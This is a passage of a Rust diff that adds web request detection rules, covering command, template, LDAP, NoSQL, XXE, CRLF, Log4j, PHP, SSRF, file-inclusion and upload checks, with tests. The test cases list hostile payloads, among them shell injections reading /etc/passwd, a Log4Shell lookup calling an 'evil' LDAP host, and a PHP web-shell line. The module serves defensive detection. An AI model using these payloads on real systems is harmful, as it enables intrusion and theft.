+                || arg.iter().any(|c| matches!(c, b'.' | b':' | b'/' | b'=' | b'|' | b';'))
+        }
+        Some(b'<' | b'>' | b';' | b'|') => true,
+        _ => false,
+    };
+    (unambiguous
+        && shaped
+        && word.len() >= 2
+        && !matches!(word.as_str(), "cat" | "dir" | "id" | "ls" | "ps" | "pwd" | "sh" | "cmd")
+        || (matches!(word.as_str(), "ls" | "id" | "ps" | "pwd" | "sh" | "cmd" | "cat" | "dir")
+            && shaped
+            && matches!(after, Some(b' '))
+            && b.get(end + 1).is_some_and(|c| matches!(c, b'-' | b'/' | b'\\'))))
+    .then_some("value is a shell command")
+}
+
+fn windows_batch(b: &[u8]) -> Option<&'static str> {
+    let text = std::str::from_utf8(b).ok()?;
+    let words: Vec<&str> = text.split_whitespace().take(64).collect();
+    const COMPARE: &[&str] = &["==", "equ", "neq", "lss", "leq", "gtr", "geq"];
+    for (i, w) in words.iter().enumerate() {
+        let w = w.trim_start_matches(['&', '|', ';', '(', '@']);
+        let next = words.get(i + 1).copied().unwrap_or_default();
+        let start_of_command = i == 0 || words[i - 1].ends_with(['&', '|', ';', '(']) || w != words[i];
+        if w == "for"
+            && (next.starts_with("/f")
+                || next.starts_with("/d")
+                || next.starts_with("/r")
+                || next.starts_with("/l")
+                || next.starts_with('%'))
+        {
+            return Some("Windows FOR command");
+        }
+        let (w, glued) = match w.strip_prefix("if/i") {
+            Some(rest) => ("if", Some(rest)),
+            None => (w, None),
+        };
+        if w == "if" && start_of_command {
+            if glued.is_some()
+                || next.starts_with('%')
+                || next.starts_with("\"%")
+                || next.starts_with("\"!")
+                || matches!(next, "exist" | "not" | "errorlevel" | "defined" | "/i" | "cmdextversion")
+            {
+                return Some("Windows IF command");
+            }
+            let rest = &words[i + 1..words.len().min(i + 5)];
+            if rest.iter().any(|r| COMPARE.contains(r) || r.contains("==")) {
+                return Some("Windows IF command");
+            }
+        }
+    }
+    None
+}
+
+/// Shell expansions that only a shell reads: `$[2+2]`, `${x#y}`, `${PATH%/*}`, and glob
+/// classes inside system paths (`/etc/pas[s]wd`, `/bi[n]/bash`).
+fn shell_expansion(b: &[u8]) -> Option<&'static str> {
+    if memchr::memmem::find(b, b"$[").is_some() {
+        return Some("shell arithmetic expansion");
+    }
+    let mut from = 0;
+    while let Some(p) = memchr::memmem::find(&b[from..], b"${") {
+        let start = from + p + 2;
+        let name = b[start..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
+        if name > 0 && matches!(b.get(start + name), Some(b'#' | b'%' | b'/' | b'^' | b',' | b'@')) {
+            return Some("shell parameter expansion");
+        }
+        from = start;
+    }
+    for p in memchr::memchr_iter(b'[', b) {
+        let close = b[p..].iter().position(|&c| c == b']').map(|q| p + q);
+        let Some(close) = close else { continue };
+        let in_path = b[..p]
+            .iter()
+            .rposition(|&c| c == b'/')
+            .is_some_and(|slash| b[slash + 1..p].iter().all(u8::is_ascii_alphanumeric));
+        let class = &b[p + 1..close];
+        let globby = !class.is_empty()
+            && class.len() <= 12
+            && class.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'!' | b'^' | b'-' | b'/'));
+        let rooted = b.first() == Some(&b'/') || b.starts_with(b"cat ") || b.contains(&b' ');
+        if in_path && globby && rooted && b.contains(&b'/') {
+            return Some("shell glob in a path");
+        }
+    }
+    None
+}
+
+/// Template expressions: `{{7*7}}`, `${...}`, `#{...}`, `<%= %>`, `{% %}`, `*{...}`.
+fn template(b: &[u8]) -> Option<&'static str> {
+    for (open, close) in [
+        (&b"{{"[..], &b"}}"[..]),
+        (b"${", b"}"),
+        (b"#{", b"}"),
+        (b"<%", b"%>"),
+        (b"{%", b"%}"),
+        (b"*{", b"}"),
+        (b"@{", b"}"),
+        (b"[[", b"]]"),
+    ] {
+        let mut from = 0;
+        while let Some(p) = memchr::memmem::find(&b[from..], open) {
+            let start = from + p + open.len();
+            let end = memchr::memmem::find(&b[start..], close).map_or(b.len(), |q| start + q);
+            let inner = &b[start..end];
+            from = start;
+            if inner.is_empty() || inner.len() > 512 {
+                continue;
+            }
+            if open == b"${" && (inner.starts_with(b"jndi") || inner.contains(&b':')) && !inner.contains(&b'(') {
+                continue; // Log4j lookups and shell defaults are handled elsewhere
+            }
+            let arithmetic = inner.windows(3).any(|w| {
+                w[0].is_ascii_digit()
+                    && matches!(w[1], b'*' | b'+' | b'/' | b'-')
+                    && (w[2].is_ascii_digit() || w[2] == b'\'')
+            });
+            let code = inner.contains(&b'(')
+                || memchr::memmem::find(inner, b"__").is_some()
+                || inner.contains(&b'[')
+                || inner.contains(&b'|');
+            let names = [
+                &b"config"[..],
+                b"self",
+                b"request",
+                b"lipsum",
+                b"cycler",
+                b"joiner",
+                b"namespace",
+                b"runtime",
+                b"getclass",
+                b"t(java",
+                b"system",
+                b"class.",
+                b"exec",
+                b"import",
+                b"freemarker",
+                b"object",
+            ];
+            let known = names.iter().any(|n| memchr::memmem::find(inner, n).is_some());
+            let only_names = inner.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b' ' | b'-'));
+            if arithmetic || known || (code && !only_names) {
+                if open == b"[[" && !arithmetic && !known {
+                    continue;
+                }
+                return Some("template expression");
+            }
+        }
+    }
+    None
+}
+
+/// LDAP filter injection: `*)(uid=*`, `)(|(`, `(|(mail=*))`, `*()|&`.
+fn ldap(b: &[u8]) -> Option<&'static str> {
+    let has = |n: &[u8]| memchr::memmem::find(b, n).is_some();
+    if (has(b")(") && b.contains(&b'=') && b.iter().filter(|&&c| c == b')').count() >= 2)
+        || (has(b"*(") && (b.contains(&b'|') || b.contains(&b'&')))
+    {
+        return Some("LDAP filter syntax");
+    }
+    let filter_syntax = has(b")(") || has(b"(|(") || has(b"(&(") || has(b"(!(") || has(b"*)(") || has(b"*))");
+    let attribute = b.contains(&b'=') || b.contains(&b'*');
+    (filter_syntax && attribute && (b.contains(&b'*') || has(b"(|") || has(b"(&") || has(b"(!")))
+        .then_some("LDAP filter syntax")
+}
+
+/// MongoDB operators and server-side JavaScript: `{ $ne: 1 }`, `db.users.find(`, `|| 1==1`.
+fn nosql(b: &[u8]) -> Option<&'static str> {
+    const OPERATORS: &[&[u8]] = &[
+        b"ne",
+        b"gt",
+        b"gte",
+        b"lt",
+        b"lte",
+        b"in",
+        b"nin",
+        b"regex",
+        b"where",
+        b"exists",
+        b"or",
+        b"and",
+        b"nor",
+        b"not",
+        b"expr",
+        b"elemmatch",
+        b"comment",
+    ];
+    for p in memchr::memchr_iter(b'$', b) {
+        let name_len = b[p + 1..].iter().take_while(|c| c.is_ascii_alphabetic()).count();
+        let name = &b[p + 1..p + 1 + name_len];
+        let mut k = p + 1 + name_len;
+        if b.get(k) == Some(&b'"') || b.get(k) == Some(&b'\'') {
+            k += 1;
+        }
+        while k < b.len() && b[k] == b' ' {
+            k += 1;
+        }
+        let before_ok = p == 0 || matches!(b[p - 1], b'{' | b' ' | b',' | b'"' | b'\'' | b'[');
+        if before_ok && OPERATORS.contains(&name) && b.get(k) == Some(&b':') {
+            return Some("MongoDB query operator");
+        }
+    }
+    if let Some(p) = memchr::memmem::find(b, b"db.") {
+        let rest = &b[p + 3..];
+        let coll = rest.iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
+        let method = &rest[coll..];
+        if method.starts_with(b".")
+            && [&b".find"[..], b".insert", b".update", b".remove", b".drop", b".aggregate", b".delete"]
+                .iter()
+                .any(|m| method.starts_with(m))
+        {
+            return Some("MongoDB shell call");
+        }
+    }
+    let has = |n: &[u8]| memchr::memmem::find(b, n).is_some();
+    if has(b"';return") || has(b"\";return") || (has(b"||") && has(b"==")) || has(b"}while(") || has(b";while(") {
+        return Some("server-side JavaScript");
+    }
+    None
+}
+
+/// An entity reference left after decoding the HTML ones: `&xxe;`, `%param;`.
+fn entity_reference(b: &[u8]) -> Option<&'static str> {
+    for p in memchr::memchr2_iter(b'&', b'%', b) {
+        let name = b[p + 1..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
+        if name >= 2 && b.get(p + 1 + name) == Some(&b';') && b[p + 1].is_ascii_alphabetic() {
+            let word = &b[p + 1..p + 1 + name];
+            const HTML: &[&[u8]] = &[
+                b"copy", b"reg", b"trade", b"hellip", b"mdash", b"ndash", b"laquo", b"raquo", b"euro", b"pound",
+                b"yen", b"cent", b"deg", b"para", b"sect", b"middot", b"bull", b"times", b"divide", b"rsquo", b"lsquo",
+                b"ldquo", b"rdquo", b"shy", b"iexcl", b"iquest", b"micro", b"plusmn", b"frac12", b"frac14", b"frac34",
+                b"sup2", b"sup3", b"ordm", b"ordf", b"acute", b"uml", b"cedil", b"macr", b"curren", b"brvbar", b"not",
+                b"zwj", b"zwnj", b"lrm", b"rlm", b"ensp", b"emsp", b"thinsp",
+            ];
+            let accented = word.len() > 4
+                && [&b"acute"[..], b"grave", b"circ", b"uml", b"tilde", b"ring", b"slash", b"cedil", b"lig"]
+                    .iter()
+                    .any(|s| word.ends_with(s));
+            if !HTML.contains(&word) && !accented {
+                return Some("XML entity reference");
+            }
+        }
+    }
+    None
+}
+
+/// CR or LF followed by what looks like a header or a status line.
+fn crlf(b: &[u8], in_header: bool) -> Option<&'static str> {
+    for p in memchr::memchr2_iter(b'\r', b'\n', b) {
+        if in_header {
+            return Some("line break in a header value");
+        }
+        let rest = &b[p + 1..];
+        let rest = rest.strip_prefix(b"\n").unwrap_or(rest);
+        let rest = rest.strip_prefix(b"\r").unwrap_or(rest);
+        let rest = rest.strip_prefix(b"\n").unwrap_or(rest);
+        let name_len = rest.iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'-').count();
+        if name_len >= 2 && rest.get(name_len) == Some(&b':') && rest[..name_len].iter().any(u8::is_ascii_alphabetic) {
+            return Some("line break followed by a header");
+        }
+        if rest.starts_with(b"http/1") || rest.starts_with(b"<") {
+            return Some("line break followed by a response");
+        }
+    }
+    None
+}
+
+/// `${jndi:...}` after resolving the nested lookups used to hide it (`${lower:j}`,
+/// `${::-n}`, `${env:X:-d}`).
+fn log4j(v: &str) -> Option<&'static str> {
+    if !v.contains("${") {
+        return None;
+    }
+    let mut s = v.to_owned();
+    for _ in 0..16 {
+        let Some(start) = find_innermost_lookup(&s) else { break };
+        let Some(len) = s[start..].find('}') else { break };
+        let inner = &s[start + 2..start + len];
+        let replacement = if let Some(pos) = inner.find(":-") {
+            inner[pos + 2..].to_owned()
+        } else if let Some(rest) = inner.strip_prefix("lower:").or_else(|| inner.strip_prefix("upper:")) {
+            rest.to_owned()
+        } else {
+            break;
+        };
+        s.replace_range(start..start + len + 1, &replacement);
+    }
+    const LOOKUPS: &[&str] = &[
+        "${jndi:",
+        "${env:",
+        "${sys:",
+        "${java:",
+        "${ctx:",
+        "${main:",
+        "${sd:",
+        "${docker:",
+        "${k8s:",
+        "${spring:",
+        "${base64:",
+        "${bundle:",
+        "${web:",
+        "${log4j:",
+        "${marker:",
+        "${jvmrunargs:",
+        "${date:",
+        "${event:",
+    ];
+    LOOKUPS.iter().any(|l| s.contains(l)).then_some("Log4j lookup")
+}
+
+/// Start of a `${` whose body has no further `${` (the innermost one).
+fn find_innermost_lookup(s: &str) -> Option<usize> {
+    let mut best = None;
+    let mut from = 0;
+    while let Some(p) = s[from..].find("${") {
+        let pos = from + p;
+        let close = s[pos..].find('}').map(|c| pos + c);
+        let next_open = s[pos + 2..].find("${").map(|n| pos + 2 + n);
+        match (close, next_open) {
+            (Some(c), Some(n)) if n < c => from = pos + 2,
+            (Some(c), _) => {
+                let inner = &s[pos + 2..c];
+                if inner.contains(":-") || inner.starts_with("lower:") || inner.starts_with("upper:") {
+                    best = Some(pos);
+                    break;
+                }
+                from = pos + 2;
+            }
+            _ => break,
+        }
+    }
+    best
+}
+
+/// PHP open tags, serialized objects and variable function calls.
+fn php_structures(b: &[u8]) -> Option<&'static str> {
+    if let Some(p) = memchr::memmem::find(b, b"<?") {
+        let rest = &b[p + 2..];
+        let xml_decl = rest.starts_with(b"xml")
+            && rest.get(3).is_some_and(|c| c.is_ascii_whitespace())
+            && rest.get(4).is_some_and(|c| c.is_ascii_alphabetic());
+        if !xml_decl {
+            return Some("PHP open tag");
+        }
+    }
+    let tag = |t: &[u8]| memchr::memmem::find(b, t).is_some();
+    if tag(b"[php]") || tag(b"[/php]") || tag(b"{php}") || tag(b"{/php}") || tag(b"[\\php]") {
+        return Some("PHP open tag");
+    }
+    // O:8:"stdClass":1:{...} / a:2:{i:0;...}
+    for (i, w) in b.windows(2).enumerate() {
+        if matches!(w[0], b'o' | b'c' | b'a') && w[1] == b':' && (i == 0 || !b[i - 1].is_ascii_alphanumeric()) {
+            let digits = b[i + 2..].iter().take_while(|c| c.is_ascii_digit()).count();
+            let after = b.get(i + 2 + digits..i + 4 + digits);
+            if digits > 0 && (after == Some(b":\"") || (w[0] == b'a' && after.is_some_and(|a| a.starts_with(b":{")))) {
+                return Some("PHP serialized object");
+            }
+        }
+    }
+    // $a(...), $GLOBALS['x'](1), ${'a'}(1), foo::$bar()
+    for p in memchr::memchr_iter(b'$', b) {
+        let mut i = p + 1;
+        if b.get(i) == Some(&b'{') {
+            i = b[i..].iter().position(|&c| c == b'}').map_or(b.len(), |q| i + q + 1);
+        } else {
+            let name = b[i..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
+            if name == 0 || b[i].is_ascii_digit() {
+                continue;
+            }
+            i += name;
+        }
+        loop {
+            while i < b.len() && b[i].is_ascii_whitespace() {
+                i += 1;
+            }
+            if b.get(i) == Some(&b'[') {
+                i = b[i..].iter().position(|&c| c == b']').map_or(b.len(), |q| i + q + 1);
+            } else if b[i..].starts_with(b"/*") {
+                i = memchr::memmem::find(&b[i + 2..], b"*/").map_or(b.len(), |q| i + 2 + q + 2);
+            } else if b[i..].starts_with(b"//") || b.get(i) == Some(&b'#') {
+                i = b[i..].iter().position(|&c| c == b'\n').map_or(b.len(), |q| i + q + 1);
+            } else {
+                break;
+            }
+        }
+        if b.get(i) == Some(&b'(') {
+            return Some("PHP variable function call");
+        }
+    }
+    None
+}
+
+/// A value that is a URL (or a bare host): remote file inclusion and SSRF.
+fn url_value(v: &str, key: &str) -> Option<(&'static str, &'static str)> {
+    let v = v.trim();
+    let (scheme, rest) = match v.find(':') {
+        Some(p)
+            if p > 0
+                && p < 16
+                && v[..p].bytes().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'.' | b'-')) =>
+        {
+            let after = &v[p + 1..];
+            match after.strip_prefix("//") {
+                Some(rest) => (&v[..p], rest),
+                // `http:127.0.0.1`: browsers and curl accept a scheme without slashes
+                None if matches!(&v[..p], "http" | "https") => (&v[..p], after),
+                None => ("", v),
+            }
+        }
+        _ => ("", v),
+    };
+    let authority_end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
+    let authority = &rest[..authority_end];
+    let host_port = authority.rsplit('@').next().unwrap_or(authority);
+    let host = if host_port.starts_with('[') {
+        host_port.split(']').next().unwrap_or(host_port).trim_start_matches('[')
+    } else {
+        host_port.split(':').next().unwrap_or(host_port)
+    };
+    let internal = internal_host(host);
+    if internal
+        && (!scheme.is_empty()
+            || authority_end < rest.len()
+            || host_port.contains(':')
+            || host == "localhost"
+            || host.contains('-'))
+    {
+        return Some(("ssrf", "URL to an internal address"));
+    }
+    let web = matches!(scheme, "http" | "https" | "ftp" | "ftps");
+    if web {
+        let ip_host = host.parse::<std::net::Ipv4Addr>().is_ok()
+            || host.parse::<std::net::Ipv6Addr>().is_ok()
+            || host_port.starts_with('[')
+            || host_port.matches(':').count() >= 2;
+        let lower_key = key.to_ascii_lowercase();
+        let known_rfi_param = [
+            "mosconfig_absolute_path",
+            "_conf[path]",
+            "phpbb_root_path",
+            "pm_path",
+            "include_path",
+            "path_to_root",
+            "base_path",
+            "abspath",
+            "gallery_basedir",
+            "dir_prefix",
+            "root_path",
+            "appserv_root",
+            "rootdir",
+        ]
+        .iter()
+        .any(|k| lower_key == *k);
+        if known_rfi_param {
+            return Some(("rfi", "URL in a parameter known for remote file inclusion"));
+        }
+        let trailing_question = v.ends_with('?');
+        let rfi_param = [
+            "include",
+            "inc",
+            "require",
+            "file",
+            "page",
+            "path",
+            "template",
+            "mosconfig_absolute_path",
+            "phpbb_root_path",
+            "src",
+            "doc",
+            "document",
+            "folder",
+            "root",
+            "pg",
+            "style",
+            "pdf",
+            "show",
+            "cat",
+            "dir",
+            "action",
+            "board",
+            "date",
+            "detail",
+            "download",
+            "prefix",
+            "conf",
+            "url",
+        ]
+        .iter()
+        .any(|k| {
+            key.eq_ignore_ascii_case(k)
+                || key.to_ascii_lowercase().contains("_path")
+                || key.to_ascii_lowercase().contains("[path]")
+        });
+        let script_target =
+            [".php", ".txt", ".asp", ".jsp", ".cgi", ".pl", ".sh", ".exe"].iter().any(|e| rest.contains(e));
+        if trailing_question
+            || (ip_host && (script_target || rfi_param))
+            || (rfi_param && script_target && key.len() > 3)
+        {
+            return Some(("rfi", "remote file inclusion URL"));
+        }
+    } else if matches!(v, "http?" | "https?" | "ftp?" | "ftps?" | "file?") {
+        return Some(("rfi", "remote file inclusion URL"));
+    }
+    None
+}
+
+fn internal_host(host: &str) -> bool {
+    if host.is_empty() {
+        return false;
+    }
+    if matches!(
+        host,
+        "localhost"
+            | "localhost.localdomain"
+            | "localhost4"
+            | "localhost6"
+            | "localhost4.localdomain4"
+            | "localhost6.localdomain6"
+            | "0"
+            | "127.1"
+            | "127.0.1"
+            | "0.0.0.0"
+            | "::1"
+            | "::"
+            | "ip6-localhost"
+            | "ip6-loopback"
+            | "ipv6-localhost"
+            | "ipv6-loopback"
+            | "metadata"
+            | "instance-data"
+            | "localtest.me"
+            | "lvh.me"
+            | "metadata.packet.net"
+            | "metadata.platformequinix.com"
+            | "metadata.tencentyun.com"
+    ) || host.ends_with(".localhost")
+        || host.ends_with(".internal")
+        || host.ends_with(".local")
+        || host.ends_with(".svc.cluster.local")
+    {
+        return true;
+    }
+    if let Ok(ip) = host.parse::<std::net::Ipv4Addr>() {
+        return ip.is_loopback()
+            || ip.is_private()
+            || ip.is_link_local()
+            || ip.is_unspecified()
+            || ip.octets()[0] == 100 && (64..128).contains(&ip.octets()[1]);
+    }
+    if let Ok(ip) = host.parse::<std::net::Ipv6Addr>() {
+        return ip.is_loopback()
+            || ip.is_unspecified()
+            || (ip.segments()[0] & 0xfe00) == 0xfc00
+            || (ip.segments()[0] & 0xffc0) == 0xfe80
+            || ip.to_ipv4_mapped().is_some_and(|v4| v4.is_loopback() || v4.is_private());
+    }
+    // decimal (2130706433), hex (0x7f000001) and octal (0177.0.0.1) forms of 127/8
+    if let Ok(n) = host.parse::<u32>() {
+        return n >> 24 == 127 || n >> 24 == 10 || n >> 16 == 0xa9fe || n >> 16 == 0xc0a8;
+    }
+    if let Some(hex) = host.strip_prefix("0x") {
+        return u32::from_str_radix(hex, 16).is_ok_and(|n| n >> 24 == 127 || n >> 16 == 0xa9fe);
+    }
+    host.starts_with("0177.") || host.starts_with("017700000001")
+}
+
+/// Uploaded file names that execute on the server or reconfigure it.
+fn upload_name(v: &str) -> Option<(&'static str, &'static str)> {
+    let name = v.rsplit(['/', '\\']).next().unwrap_or(v).trim();
+    // `a.php..`, `shell. jsp `: servers drop trailing dots and spaces
+    let trimmed = name.trim_end_matches(['.', ' ']);
+    let ext = trimmed.rsplit('.').next().unwrap_or_default().trim();
+    if matches!(ext, "php" | "php3" | "php4" | "php5" | "php7" | "php8" | "phtml" | "pht" | "phar" | "phps") {
+        return Some(("php_injection", "PHP script upload"));
+    }
+    if name.starts_with("sess_") {
+        return Some(("php_injection", "PHP session file upload"));
+    }
+    if matches!(ext, "jsp" | "jspx" | "jspf" | "jsw" | "jsv") {
+        return Some(("java_injection", "Java server page upload"));
+    }
+    if matches!(
+        name,
+        ".htaccess"
+            | ".htpasswd"
+            | "web.config"
+            | ".user.ini"
+            | "php.ini"
+            | ".bashrc"
+            | ".bash_profile"
+            | ".profile"
+            | "authorized_keys"
+            | ".gitconfig"
+            | ".npmrc"
+    ) {
+        return Some(("command_injection", "upload of a server configuration file"));
+    }
+    None
+}
+
+/// Framing anomalies in a request's headers (names lower case).
+pub fn protocol_anomaly<'h>(headers: impl Iterator<Item = (&'h str, &'h str)>) -> Option<&'static str> {
+    let mut content_length: Option<&str> = None;
+    let mut transfer_encoding = false;
+    let mut hosts = 0;
+    for (name, value) in headers {
+        let name = name.to_ascii_lowercase();
+        match name.as_str() {
+            "content-length" => {
+                if content_length.is_some_and(|v| v != value)
+                    || value.contains(',')
+                    || !value.trim().bytes().all(|c| c.is_ascii_digit())
+                {
+                    return Some("conflicting or invalid Content-Length");
+                }
+                content_length = Some(value);
+            }
+            "transfer-encoding" => {
+                transfer_encoding = true;
+                if !value.trim().eq_ignore_ascii_case("chunked") {
+                    return Some("unusual Transfer-Encoding");
+                }
+            }
+            "host" | ":authority" => hosts += 1,
+            "request-range" => return Some("obsolete Request-Range header"),
+            _ => {}
+        }
+        if value.contains(['\r', '\n', '\0']) {
+            return Some("control character in a header value");
+        }
+    }
+    if hosts > 1 {
+        return Some("duplicate Host header");
+    }
+    if transfer_encoding && content_length.is_some() {
+        return Some("both Content-Length and Transfer-Encoding");
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::{normalize, Direction};
+
+    fn classes(key: &str, value: &str) -> Vec<&'static str> {
+        let rules = Rules::new();
+        let site = Site { direction: Direction::Request, part: Part::Query, field: key, key };
+        let mut out = Vec::new();
+        rules.scan(site, &normalize(value), &mut |c, _, _| out.push(c));
+        out
+    }
+
+    #[test]
+    fn each_class_fires() {
+        let cases = [
+            ("q", "1' OR '1'='1", "sqli"),
+            ("q", "<script>alert(1)</script>", "xss"),
+            ("file", "../../../../etc/passwd", "path_traversal"),
+            ("cmd", "; cat /etc/passwd", "command_injection"),
+            ("host", "127.0.0.1; whoami", "command_injection"),
+            ("x", "for /f %i in ('dir') do echo %i", "command_injection"),
+            ("url", "http://169.254.169.254/latest/meta-data/", "ssrf"),
+            ("url", "gopher://127.0.0.1:6379/_INFO", "ssrf"),
+            ("page", "http://66.240.183.75/shell.txt?", "rfi"),
+            ("name", "{{7*7}}", "ssti"),
+            ("name", "${T(java.lang.Runtime).getRuntime().exec('id')}", "ssti"),
+            ("user", "*)(uid=*))(|(uid=*", "ldap_injection"),
+            ("x", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "xxe"),
+            ("x", "${${lower:j}ndi:ldap://evil/a}", "log4shell"),
+            ("x", "x%0d%0aSet-Cookie:%20a=b", "crlf_injection"),
+            ("x", "java.lang.Runtime", "java_injection"),
+            ("x", "<?php system($_GET['c']); ?>", "php_injection"),
+            ("x", "O:8:\"stdClass\":0:{}", "php_injection"),
+            ("x", "require('child_process').exec('id')", "code_injection"),
+            ("x", "<!--#exec cmd=\"ls\" -->", "ssi_injection"),
+            ("x", "' or count(/child::node())=1 or '", "xpath_injection"),
+            ("x", "true, $where: '1 == 1'", "nosqli"),
+            ("code", "time ifconfig", "command_injection"),
+        ];
+        for (key, value, class) in cases {
+            let got = classes(key, value);
+            assert!(got.contains(&class), "{value}: want {class}, got {got:?}");
+        }
+    }
+
+    #[test]
+    fn ordinary_values_stay_quiet() {
+        for value in [
+            "John O'Neil",
+            "42 Main St., Springfield",
+            "https://www.example.com/products?id=7",
+            "Meeting at 10:30; bring the slides",
+            "cats & dogs",
+            "{{first_name}}",
+            "price: $5 (incl. tax)",
+            "v1.2..1.5 range",
+            "user@example.com",
+            "I like cat videos",
+            "curl",
+            "select your plan",
+            "Q&A session | 2pm",
+            "a=b; c=d",
+            "the system (v2) is down",
+        ] {
+            let got = classes("q", value);
+            assert!(got.is_empty(), "{value}: {got:?}");
+        }
+    }
+
+    #[test]
+    fn names_and_protocol() {
+        let rules = Rules::new();
+        let mut got = Vec::new();
+        rules.scan_name("user[$ne]", &mut |c, _, _| got.push(c));
+        rules.scan_name("__proto__[admin]", &mut |c, _, _| got.push(c));
+        assert_eq!(got, vec!["nosqli", "code_injection"]);
+        let headers = [("content-length", "5"), ("content-length", "6")];
+        assert!(protocol_anomaly(headers.iter().copied()).is_some());
+        let headers = [("host", "a"), ("content-length", "5")];
+        assert!(protocol_anomaly(headers.iter().copied()).is_none());
+    }
+}
